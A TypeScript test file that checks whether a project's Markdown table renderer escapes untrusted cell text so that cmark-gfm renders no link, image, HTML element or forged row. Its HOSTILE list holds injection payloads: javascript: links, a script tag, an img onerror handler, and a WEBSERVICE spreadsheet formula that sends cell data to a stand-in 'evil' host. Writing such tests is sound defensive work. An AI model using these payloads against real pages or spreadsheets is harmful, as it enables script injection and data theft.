// juno's Markdown tables rendered by cmark-gfm, GitHub's own CommonMark implementation, with GitHub's extensions
// (tables, autolinks, strikethrough): every cell from data renders as its text, nothing more. No link, image,
// HTML element, entity, emphasis or extra row comes out of a name.
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toMarkdown } from '../../src/render/format.js';
import { oneLine } from '../../src/timeline/text.js';
import { hasProgram } from '../external.js';

const HAS_CMARK = hasProgram('cmark-gfm', ['--version']);

const HOSTILE = [
  '[click](javascript:alert(1))',
  '![x](https://evil/x.png)',
  '[a][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://evil.example/>',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '&lt;b&gt; &#60;i&#62; &amp; &copy;',
  '**bold** __strong__ *it* _it_ ~~gone~~ ~one~',
  '`code` ``co`de``',
  'a | b || c \\| d \\',
  '# heading',
  '$x^2$ and $$y$$',
  '[^1] footnote',
  'https://evil.example/path and www.evil.example',
  'R-6\n| forged | row |',
  '\\[already escaped\\]',
  '"=WEBSERVICE(""https://evil/""&C2)"',
];

/** Characters that make Markdown: mixed with letters and spaces, they make every construct cmark knows. */
const markdownish = fc
  .array(
    fc.constantFrom(
      ...'\\`*_~[]()!<>&#|$:/.@-+="\' a1\n'.split(''),
      'www.',
      'https://',
      'javascript:',
      '&amp;',
      '&#60;',
      '<b>',
      '](x)',
      '![',
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(''));

const html = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** The text of each body cell of the one table cmark-gfm renders from `markdown`. */
function renderCells(markdown: string): string[][] {
  const result = spawnSync('cmark-gfm', ['-e', 'table', '-e', 'autolink', '-e', 'strikethrough'], {
    input: markdown,
    encoding: 'utf8',
  });
  expect(result.status).toBe(0);
  const body = result.stdout.slice(result.stdout.indexOf('<tbody>'), result.stdout.indexOf('</tbody>'));
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map(([, row = '']) =>
    [...row.matchAll(/<td>([\s\S]*?)<\/td>/g)].map(([, cell = '']) => cell),
  );
}

describe.skipIf(!HAS_CMARK)('Markdown tables rendered by cmark-gfm', () => {
  it('render every data cell as its own text', () => {
    const texts = [...HOSTILE, ...fc.sample(markdownish, { numRuns: 400, seed: 42 })];
    const markdown = toMarkdown(
      ['Text', 'After'],
      texts.map((text) => [text, 'end']),
    );
    const rows = renderCells(markdown);
    expect(rows).toHaveLength(texts.length);
    rows.forEach((cells, i) => {
      const text = texts[i] as string;
      // GitHub links e-mail addresses whatever the escapes; those are the only links left, and only mailto.
      const cell = (cells[0] ?? '').replace(/<a href="mailto:[^"]*">([^<]*)<\/a>/g, '$1');
      expect([i, cell]).toEqual([i, html(oneLine(text).trim())]);
      expect(cells.slice(1)).toEqual(['end']);
    });
  });

  it('render no link, image or element from the hostile names', () => {
    const rendered = spawnSync('cmark-gfm', ['-e', 'table', '-e', 'autolink', '-e', 'strikethrough'], {
      input: toMarkdown(
        ['Text'],
        HOSTILE.map((text) => [text]),
      ),
      encoding: 'utf8',
    }).stdout;
    const elements = new Set([...rendered.matchAll(/<([a-z]+)/g)].map(([, name]) => name));
    expect([...elements].sort()).toEqual(['table', 'tbody', 'td', 'th', 'thead', 'tr']);
  });
});
